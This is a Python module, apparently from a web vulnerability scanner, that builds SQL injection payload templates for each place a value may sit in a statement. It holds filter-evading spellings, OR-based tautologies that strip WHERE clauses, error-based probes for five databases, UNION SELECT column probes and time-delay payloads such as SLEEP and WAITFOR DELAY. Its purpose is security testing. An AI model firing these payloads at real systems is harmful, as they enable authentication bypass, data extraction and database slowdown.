"""How SQL of ours fits around a value, by the place the value has in a statement.

In the templates ``{v}`` is the value that is there, ``{t}`` a fresh word, ``{c}`` a condition, and ``{s}``
seconds.
The forms and why each exists: OWASP Web Security Testing Guide (WSTG-INPV-05), PortSwigger's SQL injection
cheat sheet, the databases' manuals.
"""

import re
from collections.abc import Iterator

from msgspec import Struct

from s2n.model import Location
from s2n.s2nscanner.http.points import InputPoint, points_of

BREAKS = ("{v}'{t}", "{v}'\"{t})\\")
"""The last ends strings of either kind, closes a parenthesis, escapes an end: no SQL context survives it."""

_CASE = "(CASE WHEN {c} THEN {v} ELSE NULL END)"
_MANY = "(CASE WHEN {c} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)"  # fails in MySQL and PostgreSQL
_HUGE = "abs(-9223372036854775807-1)"  # fails in SQLite and PostgreSQL

# LIKE, so that a pattern's own % may follow: 'x' LIKE 'x%'. The last fails where nothing is looked up.
_TEXT = (
    "{v}' AND {c} AND 'x' LIKE 'x",
    "{v}') AND {c} AND ('x' LIKE 'x",
    "{v}%' AND {c} AND 'x' LIKE 'x",
    "{v}%') AND {c} AND ('x' LIKE 'x",
    '{v}" AND {c} AND "x" LIKE "x',
    '{v}") AND {c} AND ("x" LIKE "x',
    "{v}')) AND {c} AND (('x' LIKE 'x",
    f"{{v}}'||(CASE WHEN {{c}} THEN 7 ELSE {_HUGE} END)||'",
)
_NUMBER = ("{v} AND {c}", _CASE, f"(CASE WHEN {{c}} THEN {{v}} ELSE {_HUGE} END)")
_HUGE_KEY = f"(CASE WHEN {{c}} THEN 1 ELSE {_HUGE} END)"
_NAME = (_CASE, f"{_MANY},{{v}}", f"{_HUGE_KEY},{{v}}")
_TABLE = "{v} WHERE {c}-- -"
_DIRECTION = (f"{{v}},{_MANY}", f"{{v}},{_HUGE_KEY}")

# For filters: on spaces and on the usual spelling; that remove a word once; on the words AND and OR (MySQL).
_TEXT_EVASIONS = (
    "{v}'/**/aNd/**/{c}/**/aNd/**/'x'/**/lIkE/**/'x",
    "{v}%'/**/aNd/**/{c}/**/aNd/**/'x'/**/lIkE/**/'x",
    "{v}' AANDND {c} AANDND 'x'='x",
    "{v}'&&{c}&&'x'='x",
)
_NUMBER_EVASIONS = ("{v}/**/aNd/**/{c}", "{v} AANDND {c}", "{v}&&{c}")

# These take away what restricts a statement, so they are kept for statements that only read.
_READING = ("{v}' OR {c}-- -", "{v}' AND {c}-- -", "{v}') OR {c}-- -", '{v}" OR {c}-- -')
_READING_NUMBER = ("{v} OR {c}", "{v}) OR {c}-- -")
_READING_EVASIONS = ("{v}'/**/oR/**/{c}/**/--/**/", "{v}' OORR {c}-- -", "{v}'||{c}#")

WITNESSES = {
    "MySQL": "extractvalue(1,concat(0x7e,({a}*{b})))",
    "PostgreSQL": "1=CAST('~'||({a}*{b}) AS integer)",
    "SQLite": "json_extract('{}','~'||({a}*{b}))=1",
    "Microsoft SQL Server": "1=CONVERT(int,'~'+CAST({a}*{b} AS varchar(20)))",
    "Oracle": "1=TO_NUMBER('~'||({a}*{b}))",
}
"""Expressions that fail with a message that holds the product; Oracle's does so since 12.2."""

WITNESS_DIGITS = 5
"""Digits of a factor whose product fits in 32 bits."""

MAX_COLUMNS = 10
"""Columns of a UNION that are tried; few listings have more."""

_MYSQL = "(SELECT 7 FROM(SELECT SLEEP({s}))q)"  # a derived table: runs once, whatever the rows
_TEXT_WAITS = (
    ("MySQL", f"{{v}} AND {_MYSQL}/*' AND {_MYSQL} AND '\" AND {_MYSQL} AND \"*/"),  # number, ' and "
    ("PostgreSQL", "{v}'||(SELECT '' FROM pg_sleep({s}))||'"),
    ("Oracle", "{v}'||dbms_pipe.receive_message('{t}',{s})||'"),
)
_NUMBER_WAITS = (
    ("PostgreSQL", "{v}-(SELECT 0 FROM pg_sleep({s}))"),
    ("Oracle", "{v}-0*dbms_pipe.receive_message('{t}',{s})"),
)
_NAME_WAITS = (("PostgreSQL", "{v},(SELECT 0 FROM pg_sleep({s}))"), ("MySQL", f"{{v}},{_MYSQL}"))
_READING_WAITS = (
    ("PostgreSQL", "{v}';SELECT pg_sleep({s})-- -"),
    ("Microsoft SQL Server", "{v}';WAITFOR DELAY '0:0:{s}'-- -"),
    ("Microsoft SQL Server", "{v}');WAITFOR DELAY '0:0:{s}'-- -"),
    ("Microsoft SQL Server", "{v};WAITFOR DELAY '0:0:{s}'-- -"),
)
_WAITING = re.compile(r"SLEEP|pg_sleep|receive_message|DELAY")

_IS_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")
_IS_NAME = re.compile(r"(?i)[a-z_][\w.]*|\d{1,2}")
_IS_DIRECTION = re.compile(r"(?i)(?:[\w.]+ )?(?:asc|desc)")
_PASSWORD = re.compile(r"(?i)pass|pwd|secret")
_UNION_PREFIX = re.compile(r"(\{v\}[%'\")]*)[ /&]")


class SqlContexts(Struct, frozen=True):
    """What may be written around the value of one input point.

    ``reads``: see `only_reads`. ``everywhere``: each page has this header or cookie, so only what the usual
    statement needs is tried.
    """

    value: str
    reads: bool
    everywhere: bool = False

    @classmethod
    def of(cls, point: InputPoint) -> "SqlContexts":
        """The contexts that the point's present value makes likely."""
        everywhere = point.location in {Location.HEADER, Location.COOKIE}
        return cls(point.value, only_reads(point), everywhere)

    @property
    def is_number(self) -> bool:
        """Is the value one that no quotes need stand around?"""
        return _IS_NUMBER.fullmatch(self.value) is not None

    @property
    def values(self) -> tuple[str, ...]:
        """A condition beside a value that is looked up."""
        return (*_NUMBER, *_TEXT) if self.is_number else _TEXT

    @property
    def names(self) -> tuple[str, ...]:
        """A condition where the value names a column or a direction to sort by."""
        if _IS_DIRECTION.fullmatch(self.value):
            return _DIRECTION
        return _NAME if _IS_NAME.fullmatch(self.value) else ()

    @property
    def evasions(self) -> tuple[str, ...]:
        """Spellings that get through simple filters."""
        return (*_NUMBER_EVASIONS, *_TEXT_EVASIONS) if self.is_number else _TEXT_EVASIONS

    @property
    def readings(self) -> tuple[str, ...]:
        """Conditions that widen a statement, for those that only read."""
        if not self.reads or self.everywhere:
            return ()
        number = _READING_NUMBER if self.is_number else ()
        return (*number, *_READING, *_READING_EVASIONS)

    @property
    def tables(self) -> tuple[str, ...]:
        """A condition where the value names a table, for statements that only read."""
        return (_TABLE,) if self.reads and self.names and not self.is_number else ()

    @property
    def waits(self) -> Iterator[tuple[str, str]]:
        """The database, and a template that makes it wait."""
        yield from _TEXT_WAITS
        if self.is_number or not (self.value or self.everywhere):
            yield from _NUMBER_WAITS
        if self.everywhere:
            return
        if self.names and not self.is_number:
            yield from _NAME_WAITS
        if self.reads:
            yield from _READING_WAITS

    def fill(self, template: str, **parts: str) -> str:
        """The value to send; a template that waits has a number where there is no value."""
        value = self.value or ("1" if "{s}" in template else "")
        for name, part in parts.items():
            template = template.replace(f"{{{name}}}", part)
        return template.replace("{v}", value)


def inert(template: str) -> str:
    """A waiting ``template`` with its function misspelt."""
    return _WAITING.sub(lambda match: match[0][:-1] + "q", template)


def unions(template: str) -> list[str]:
    """Templates that add a row of ``{c}`` in 1 … `MAX_COLUMNS` columns where ``template`` takes a condition.

    None if nothing can follow in that place.
    """
    match = _UNION_PREFIX.match(template)
    if match is None:
        return []
    space = "/**/" if "/**/" in template else " "
    rows = [",".join(["{c}"] * columns) for columns in range(1, MAX_COLUMNS + 1)]
    return [
        match[1] + space + space.join(["aNd", "1=2", "uNiOn", "aLl", "sElEcT", f"{row}--", "-"])
        for row in rows
    ]


def only_reads(point: InputPoint) -> bool:
    """May a statement lose its WHERE here? Only behind a GET, or a login: one password and little else."""
    if point.request.method in {"GET", "HEAD"}:
        return True
    fields = [other for other in points_of(point.request) if other.location == point.location]
    passwords = [field for field in fields if _PASSWORD.search(field.name)]
    return point.location in {Location.FORM, Location.JSON} and len(passwords) == 1 and len(fields) <= 4
